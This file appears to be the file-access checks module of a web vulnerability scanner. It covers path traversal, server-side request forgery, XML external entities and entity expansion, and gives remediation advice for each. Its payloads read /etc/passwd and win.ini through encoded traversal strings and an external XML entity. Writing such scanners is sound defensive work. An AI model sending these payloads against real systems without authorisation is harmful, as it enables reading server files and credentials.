// Values that name what the server reads: files by a path, addresses that it fetches, entities of XML.
import type { Exchange, Param, Proof } from '../model.js';
import { everyTurn, everywhere, product, proveBy, turnsOfSign, turnsOfWord, word } from './check.js';
import type { Attack, Check, Probe } from './check.js';

/** The first account of every Unix system; of Windows, the section that its old file of settings begins with. */
const knownFile = ({ body }: Exchange): boolean =>
  /^root:[^:\n]*:0:0:/m.test(body) || /^\[(?:fonts|extensions)\]\s*$/im.test(body);

const up = (step: string): string => step.repeat(8);
const paths: readonly ((tail: string) => string)[] = [
  (tail) => `${up('../')}etc/passwd${tail}`,
  (tail) => `${up('....//')}etc/passwd${tail}`,
  (tail) => `/etc/passwd${tail}`,
  (tail) => `${up('..%2f')}etc%2fpasswd${tail}`,
  (tail) => `file:///etc/passwd${tail}`,
  (tail) => `${up('..\\')}windows\\win.ini${tail}`,
];

/** Values whose names or contents look like a file's, first; of others the two most usual ways are tried. */
const isFileLike = ({ name, value }: Probe['param']): boolean =>
  /file|path|doc|page|template|include|folder|dir|name|view|report|download|lang/i.test(name) || /[./\\]/.test(value);

async function traversal(probe: Probe): Promise<Proof | null> {
  const base = await probe.baseline();
  if (base === null || knownFile(base)) return null;
  const tried = isFileLike(probe.param) || probe.parts.profile === 'full' ? paths : paths.slice(0, 3);
  const makers = tried.map((path) => (): Attack => ({ attack: path(''), neutral: path(word(6)), shows: knownFile }));
  const proof = await proveBy(
    probe,
    makers,
    `In ${turnsOfSign} turns the answer had the first lines of a system file; for one that is missing it had not.`,
    turnsOfSign,
  );
  return proof === null && tried.length < paths.length ? probe.leaveOut() : proof;
}

async function ssrf(probe: Probe): Promise<Proof | null> {
  const { callbacks } = probe.parts;
  // any value may be what is fetched: one that is not costs one request
  if (callbacks === null) return probe.leaveOut();
  return everyTurn(turnsOfWord, async () => {
    const { url, wasAsked, answer } = callbacks.issue();
    const exchange = await probe.with(url);
    if (exchange === null || !wasAsked()) return null;
    const shown = exchange.body.includes(answer) ? ' Its answer is shown.' : '';
    const why = `The target asked for an address of this server, twice.${shown}`;
    return { attack: url, exchange, neutral: null, why };
  });
}

/** A value that is a document itself. */
const isDocument = ({ name, value, isFixed }: Param): boolean =>
  isFixed !== true && (/^\s*<[?!\w]/.test(value) || /(?:^|[_-])(?:xml|soap|svg|rss|opml)(?:$|[_-])/i.test(name));

/** How a document with these declarations, and this text in it, is sent; null: the form takes none. */
function wayOfXml({ form, talk }: Probe): ((declared: string, text: string) => Promise<Exchange | null>) | null {
  const field = form.params.find(({ place }) => place === 'body');
  if (form.bodyKind === 'xml' && field !== undefined)
    return async (declared, text) =>
      talk.ask({
        method: form.method,
        url: form.url,
        headers: { 'content-type': 'application/xml' },
        body:
          `<?xml version="1.0"?><!DOCTYPE request [${declared}]>` +
          `<request><${field.name}>${text}</${field.name}></request>`,
      });
  const own = form.params.find(isDocument);
  if (own === undefined) return null;
  const [root = 'request', inner] = [...own.value.matchAll(/<([A-Za-z][\w.-]{0,60})[\s>/]/g)].map(
    ([, name = '']) => name,
  );
  return async (declared, text) => {
    const held = inner === undefined ? text : `<${inner}>${text}</${inner}>`;
    const document = `<?xml version="1.0"?><!DOCTYPE ${root} [${declared}]><${root}>${held}</${root}>`;
    return talk.send(form, { [own.name]: document });
  };
}

async function xxe(probe: Probe): Promise<Proof | null> {
  const way = wayOfXml(probe);
  if (way === null) return probe.leaveOut();
  const send = async (entity: string): Promise<Exchange | null> => way(`<!ENTITY probe ${entity}>`, '&probe;');
  const file = 'SYSTEM "file:///etc/passwd"';
  const read = await everyTurn(turnsOfSign, async () => {
    const exchange = await send(file);
    if (exchange === null || !knownFile(exchange)) return null;
    const neutral = await send(`"${word()}"`);
    const why = `In ${turnsOfSign} turns an external entity was replaced by the text of a file, a plain one was not.`;
    return neutral === null || knownFile(neutral) ? null : { attack: file, exchange, neutral, why };
  });
  const { callbacks } = probe.parts;
  if (read !== null) return read;
  if (callbacks === null) return probe.leaveOut();
  return everyTurn(turnsOfWord, async () => {
    const { url, wasAsked } = callbacks.issue();
    const exchange = await send(`SYSTEM "${url}"`);
    const why = 'The target asked for the addresses of external entities, twice.';
    return exchange === null || !wasAsked() ? null : { attack: url, exchange, neutral: null, why };
  });
}

async function entities(probe: Probe): Promise<Proof | null> {
  const way = wayOfXml(probe);
  if (way === null) return probe.leaveOut();
  return everyTurn(turnsOfWord, async () => {
    const { left, right } = product();
    const declared = `<!ENTITY one "${left}"><!ENTITY two "&one;x${right}">`;
    const exchange = await way(declared, '&two;');
    if (exchange === null || !exchange.body.includes(`${left}x${right}`)) return null;
    const why = 'Entities that the request declares are replaced, in each other.';
    return { attack: declared, exchange, neutral: null, why };
  });
}

export const fileChecks: readonly Check[] = [
  {
    id: 'path-traversal',
    title: 'Path traversal',
    severity: 'high',
    cwe: 22,
    on: 'param',
    profiles: everywhere,
    description: 'A value from the request names a file of the server outside of the directory that it is meant for.',
    remediation: 'Resolve the path and refuse it unless it lies in the directory; better, look names up in a list.',
    prove: traversal,
  },
  {
    id: 'ssrf',
    title: 'Server-side request forgery',
    severity: 'high',
    cwe: 918,
    on: 'param',
    profiles: everywhere,
    description: 'The server fetches an address that the request names.',
    remediation: 'Fetch from a list of hosts only; refuse private addresses after the name is resolved; no redirects.',
    prove: ssrf,
  },
  {
    id: 'xxe',
    title: 'External entities of XML',
    severity: 'high',
    cwe: 611,
    on: 'form',
    profiles: everywhere,
    description: 'The parser of XML fetches entities that the request declares.',
    remediation: 'Switch document types and external entities off in the parser.',
    prove: xxe,
  },
  {
    id: 'xml-entities',
    title: 'Entities of XML are expanded',
    severity: 'medium',
    cwe: 776,
    on: 'form',
    profiles: everywhere,
    description: 'The parser replaces entities that the request declares: a small request can become a huge text.',
    remediation: 'Refuse document types in requests, or bound the expansion.',
    prove: async (probe) => ((await xxe(probe)) === null ? entities(probe) : null),
  },
];
